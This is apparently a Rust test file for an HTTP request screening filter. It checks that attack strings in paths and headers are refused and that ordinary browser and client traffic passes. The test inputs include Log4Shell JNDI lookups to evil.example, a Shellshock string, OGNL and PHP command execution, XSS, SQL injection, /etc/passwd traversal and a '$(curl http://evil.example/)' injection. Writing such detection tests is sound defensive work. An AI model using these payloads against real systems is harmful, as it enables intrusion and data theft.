use super::*;
use crate::document::{
    Handling, InputSection, Normalisation, Reaction, ScreeningSection, TextSection,
};
use crate::screening::Action;

fn screened(fields: &[(&str, &str)]) -> Result<Notes, Refusal> {
    let section = InputSection { screening: Some(Default::default()), ..Default::default() };
    let screening = Screening::compile(&section, None, "input").unwrap();
    let pseudo = [(":method", "GET"), (":authority", "api.example")];
    let headers: Vec<Header<'_>> =
        fields.iter().chain(&pseudo).map(|(name, value)| (*name, value.as_bytes())).collect();
    let mut notes = Notes::default();
    if fields[0].0 == ":path" {
        target(&screening, &Target::read(&headers)?, &mut notes)?;
    }
    super::fields(&screening, &headers, &mut notes)?;
    Ok(notes)
}

/// The fields that are read by their grammars.
#[test]
fn what_no_grammar_needs_is_found_in_every_field() {
    for name in STRUCTURED {
        for value in [
            "${jndi:ldap://evil.example/a}",
            "Bearer ${jndi:ldap://evil.example/a}",
            "text/html; q=${${lower:j}ndi:ldap://evil.example/a}",
            "a, \"${${::-j}${::-n}di:rmi://evil.example/a}\"",
            "() { :;}; /bin/bash -c id",
            "#{7*7}",
            "%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}",
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "<?php system('id'); ?>",
            "$(curl http://evil.example/)",
        ] {
            let refusal = screened(&[(name, value)]).expect_err(value);
            assert_eq!(refusal.reason, Reason::AttackSuspected, "{name}: {value}");
            assert_eq!(refusal.findings[0].at, name);
        }
    }
}

#[test]
fn attacks_are_found_wherever_they_are() {
    for field in [
        (":path", "/search?q=1%27%20OR%20%271%27=%271"),
        (":path", "/search?%3Cscript%3Ealert(1)%3C/script%3E=1"),
        (":path", "/files?name=..%2f..%2f..%2fetc%2fpasswd"),
        (":path", "/a;cat%20/etc/passwd%7Csh"),
        (":path", "/search?q=%00%1b1%27%20OR%20%271%27=%271"),
        ("user-agent", "${jndi:ldap://evil.example/a}"),
        ("referer", "https://a.example/?q=<script>alert(1)</script>"),
        ("x-tenant-hint", "1' UNION SELECT password FROM users--"),
        ("cookie", "theme=dark; id=1' OR '1'='1"),
    ] {
        let refusal = screened(&[field]).expect_err(field.1);
        assert_eq!(refusal.reason, Reason::AttackSuspected, "{field:?}");
        assert_eq!(refusal.findings[0].at, field.0);
    }
}

fn characters(text: TextSection, field: (&str, &[u8])) -> Result<(), Reason> {
    let section = InputSection { text: Some(text), ..Default::default() };
    let screening = Screening::compile(&section, None, "input").unwrap();
    let headers = [(":method", &b"GET"[..]), (":authority", b"api.example"), field];
    let target = (field.0 == ":path").then(|| Target::read(&headers)).transpose().expect("a path");
    let checked = check_characters(&screening, target.as_ref(), &headers);
    checked.map_err(|refusal| {
        assert_eq!(refusal.findings[0].at, field.0);
        refusal.reason
    })
}

#[test]
fn characters_that_would_be_taken_out_are_refused() {
    let rules = |control, invisible| TextSection { control, invisible, ..Default::default() };
    let bytes = |text: &'static str| text.as_bytes();
    let control = [(":path", "/x?q=a%00b"), (":path", "/x?q=%1b%5B2J"), (":path", "/x?%7f=1")];
    for (name, value) in control {
        for handling in [Handling::Refuse, Handling::Strip] {
            let found = characters(rules(handling, Handling::Allow), (name, bytes(value)));
            assert_eq!(found, Err(Reason::ControlCharacter), "{value}");
        }
        let found = characters(rules(Handling::Allow, Handling::Refuse), (name, bytes(value)));
        assert_eq!(found, Ok(()), "{value}");
    }
    let invisible = [
        (":path", "/x?q=a%E2%80%AEb"),
        (":path", "/x?a%E2%80%8Bb"),
        (":path", "/x/a%E2%80%AEb"),
        (":path", "/x?q=%F3%A0%81%81"),
        ("x-a", "a\u{202e}b"),
        ("user-agent", "a\u{200b}b"),
        ("cookie", "a=\u{feff}b"),
        ("accept-language", "en\u{200b}"),
    ];
    for (name, value) in invisible {
        for handling in [Handling::Refuse, Handling::Strip] {
            let found = characters(rules(Handling::Allow, handling), (name, bytes(value)));
            assert_eq!(found, Err(Reason::InvisibleCharacter), "{value}");
        }
        let found = characters(rules(Handling::Refuse, Handling::Allow), (name, bytes(value)));
        assert_eq!(found, Ok(()), "{value}");
    }
    let bad = (":path", &b"/x?q=%ff&a=%c3&b=%a9"[..]);
    let strict = rules(Handling::Refuse, Handling::Refuse);
    assert_eq!(characters(strict, bad), Err(Reason::TextInvalid));
    assert_eq!(characters(rules(Handling::Allow, Handling::Refuse), bad), Ok(()));
    for (name, value) in [
        (":path", &b"/x/%C3%A9?q=a+b%20c%0a%09d&e=%E2%9D%A4%EF%B8%8F&f=%D7%A9%E2%80%8F"[..]),
        ("x-title", "Caf\u{e9} \u{2764}\u{fe0f} \u{2014} chat".as_bytes()),
        ("x-title", b"caf\xe9"),
        ("x-a", b"a\tb"),
    ] {
        assert_eq!(characters(strict, (name, value)), Ok(()), "{name}");
    }
    // How long texts may be and what form they have is said of bodies.
    let text = TextSection { max_chars: 3, normalise: Normalisation::Nfkc, ..strict };
    assert_eq!(characters(text, (":path", b"/x?q=%EF%BD%89%EF%BD%84")), Ok(()));
}

fn with_data(reaction: Reaction, fields: &[(&str, &str)]) -> Result<Notes, Refusal> {
    let kinds = [Kind::EmailAddress, Kind::PaymentCard, Kind::Secret, Kind::IpAddress];
    let screening = ScreeningSection {
        attacks: Some(Reaction::Allow),
        personal_data: kinds.map(|kind| (kind, Action::Mask)).into(),
        personal_data_in_head: Some(reaction),
        ..Default::default()
    };
    let section = InputSection { screening: Some(screening), ..Default::default() };
    let screening = Screening::compile(&section, None, "input").unwrap();
    let pseudo = [(":method", "GET"), (":authority", "api.example")];
    let headers: Vec<Header<'_>> =
        fields.iter().chain(&pseudo).map(|(name, value)| (*name, value.as_bytes())).collect();
    let mut notes = Notes::default();
    assert_eq!(screening.looks_at_heads(), reaction != Reaction::Allow);
    if fields[0].0 == ":path" {
        target(&screening, &Target::read(&headers)?, &mut notes)?;
    }
    super::fields(&screening, &headers, &mut notes)?;
    Ok(notes)
}

#[test]
fn personal_data_is_found_and_never_replaced() {
    for field in [
        (":path", "/search?q=write+to+alice%40example.com"),
        (":path", "/search?card=4111%201111%201111%201111"),
        (":path", "/login?password=Tr0ub4dor%263x"),
        (":path", "/search?alice%40example.com=1"),
        ("x-user", "alice@example.com"),
        ("referer", "https://a.example/?mail=alice@example.com"),
    ] {
        let refusal = with_data(Reaction::Refuse, &[field]).expect_err(field.1);
        assert_eq!(refusal.reason, Reason::PersonalDataRefused, "{field:?}");
        assert_eq!(refusal.findings[0].at, field.0);
        assert!(!with_data(Reaction::Flag, &[field]).unwrap().is_empty(), "{field:?}");
        assert!(with_data(Reaction::Allow, &[field]).unwrap().is_empty(), "{field:?}");
    }
    for field in [
        (":path", "/search?q=how+to+write+a+letter&page=2"),
        ("authorization", "Bearer ghp_16C7e42F292c6912E7710c838347Ae178B4a"),
        ("cookie", "mail=alice@example.com"),
        ("user-agent", "Mozilla/5.0 Chrome/131.0.0.0 Safari/537.36"),
        ("x-forwarded-for", "203.0.113.7"),
    ] {
        let notes = with_data(Reaction::Refuse, &[field]).unwrap();
        assert!(notes.is_empty(), "{field:?}: {notes:?}");
    }
}

#[test]
fn what_browsers_and_clients_send_is_let_through() {
    for field in [
        (
            ":path",
            "/v1/chat/completions?api-version=2025-01-01&stream=true&filter=name%20eq%20%27a%27",
        ),
        (":path", "/v1/search?q=how+do+I+select+rows+from+a+table&page=2&sort=-date"),
        (":path", "/x/..//v1/./predict?a=1"),
        (":path", "/v1/redirect?to=https%3A%2F%2Fexample.com%2Fa%3Fb%3Dc%26d%3De"),
        (
            "user-agent",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
        ),
        (
            "user-agent",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
        ),
        ("user-agent", "python-requests/2.32.3"),
        ("user-agent", "OpenAI/Python 1.54.0"),
        ("user-agent", "curl/8.5.0"),
        ("user-agent", "Go-http-client/2.0"),
        ("referer", "http://localhost:3000/chat?thread=abc#top"),
        ("sec-ch-ua", "\"Chromium\";v=\"131\", \"Not_A Brand\";v=\"24\""),
        ("sec-ch-ua-platform", "\"Windows\""),
        ("cache-control", "no-cache, max-age=0"),
        ("if-modified-since", "Wed, 21 Oct 2026 07:28:00 GMT"),
        ("x-stainless-os", "MacOS"),
        ("x-stainless-runtime-version", "CPython/3.12.4"),
        ("openai-organization", "org-abc123"),
        ("baggage", "userId=alice,serverNode=DF%2028,isProduction=false"),
        (
            "cookie",
            "session=eyJhbGciOiJIUzI1NiJ9.e30.abc-_; theme=dark; _ga=GA1.2.123456789.1700000000",
        ),
        ("x-api-key", "pk_a1b2c3.d4e5f6g7h8i9j0k1l2m3n4o5p6q7r8s9"),
        (
            "accept",
            "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
        ),
        ("accept", "application/json, text/event-stream"),
        ("accept-language", "en-GB,en;q=0.9,de-DE;q=0.8,*;q=0.5"),
        ("accept-encoding", "gzip, deflate, br, zstd"),
        ("authorization", "Basic QWxhZGRpbjpvcGVuIHNlc2FtZQ=="),
        (
            "authorization",
            "Digest username=\"Mufasa\", realm=\"http-auth@example.org\", uri=\"/dir/index.html\", algorithm=SHA-256, nonce=\"7ypf/xlj9XXwfDPEoM4URrv/xwf94BcCAzFZH4GiTo0v\"",
        ),
        (
            "authorization",
            "AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/iam/aws4_request, SignedHeaders=content-type;host, Signature=5d672d79c15b13162d9279b0855cfba6789a8edb4c82c400e06b5924a6f2b5d7",
        ),
        // What was copied from a manual.
        ("authorization", "Bearer $OPENAI_API_KEY"),
        ("authorization", "Bearer ${OPENAI_API_KEY}"),
        ("authorization", "Bearer {{token}}"),
        ("authorization", "Bearer <your-api-key>"),
        ("if-none-match", "W/\"a<b\", \"{0815}\", \"$1\""),
        ("if-none-match", "\"{7F0C7B2A-4C1E-4B0A-9F3A-2F6D2B7C1D11},3\""),
        ("if-match", "\"'<etag>'\""),
        ("content-type", "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW"),
        (
            "content-type",
            "multipart/related; type=\"application/xop+xml\"; start=\"<rootpart@soapui.org>\"; start-info=\"text/xml\"",
        ),
        ("traceparent", "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01"),
        ("tracestate", "dd=s:2;o:rum;t.dm:-4;p:00f067aa0ba902b7,congo=t61rcWkgMzE,a=<b>{c}$"),
        ("via", "1.1 vegur, 2.0 varnish (Varnish/7.1 {edge} <eu>)"),
        ("forwarded", "for=\"[2001:db8:cafe::17]:4711\";proto=http;by=203.0.113.43, for=_hidden"),
        ("x-forwarded-for", "203.0.113.7, 2001:db8::1"),
        ("origin", "https://app.example.com"),
        ("origin", "null"),
        ("priority", "u=1, i"),
        ("te", "trailers"),
        (
            "signature-input",
            "sig1=(\"@method\" \"@authority\" \"content-digest\");created=1618884473;keyid=\"test-key\"",
        ),
        ("content-digest", "sha-256=:X48E9qOokqqrvdts8nOJRJN3OWDUoyWxBf7kbu9DBPE=:"),
        ("x-request-id", "{7f0c7b2a-4c1e-4b0a-9f3a-2f6d2b7c1d11}"),
    ] {
        let notes = screened(&[field]).unwrap_or_else(|refusal| panic!("{field:?}: {refusal:?}"));
        assert!(notes.is_empty(), "{field:?}: {notes:?}");
    }
}
